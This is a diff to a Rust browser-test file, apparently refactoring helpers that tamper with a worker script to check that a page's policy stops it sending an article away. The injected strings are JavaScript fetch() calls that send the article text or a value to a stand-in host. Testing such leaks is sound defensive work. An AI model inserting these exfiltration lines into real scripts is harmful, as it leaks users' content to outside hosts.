@@ -4,20 +4,16 @@ use reportedly_tests::{Page, Visit};
 
 use crate::elements::{inside, page_of, page_with};
 use crate::sharing::share;
-use crate::texts::read_ferry;
+use crate::texts::{read_ferry, replaced};
 
 /// A link to a short text.
 const LINK: &str = include_str!("../links/1-article.link");
 
 /// The worker of somebody who wants the article.
 fn leaking(script: &str) -> String {
-    let leaking = script.replacen(
-        "const { text, rules } = wanted;",
-        "const { text, rules } = wanted; fetch('http://reportedly.invalid/?' + encodeURIComponent(text)).catch(() => {});",
-        1,
-    );
-    assert_ne!(leaking, script, "the worker takes the text that is wanted");
-    leaking
+    let takes = "const { text, rules } = wanted;";
+    let sends = "fetch('http://reportedly.invalid/?' + encodeURIComponent(text)).catch(() => {});";
+    replaced(script, takes, &[takes, sends].join(" "))
 }
 
 async fn no_article_leaves(page: &Page) {
@@ -73,15 +69,9 @@ fn a_frame_s_worker_is_under_the_policy_of_the_frame() {
 
 #[test]
 fn a_worker_for_links_that_would_send_the_article_away_cannot() {
-    let leaking = |script: &str| {
-        let leaking = script.replacen(
-            "postMessage({ number, result:",
-            "fetch('http://reportedly.invalid/?' + verb).catch(() => {}); postMessage({ number, result:",
-            1,
-        );
-        assert_ne!(leaking, script, "the worker answers");
-        leaking
-    };
+    let (answers, sends) =
+        ("postMessage({ number, result:", "fetch('http://reportedly.invalid/?' + verb).catch(() => {});");
+    let leaking = |script: &str| replaced(script, answers, &[sends, answers].join(" "));
     Visit::of_the_build().with_changed("program-loader.js", leaking).run(async |page| {
         read_ferry(page).await;
         share(page).await;
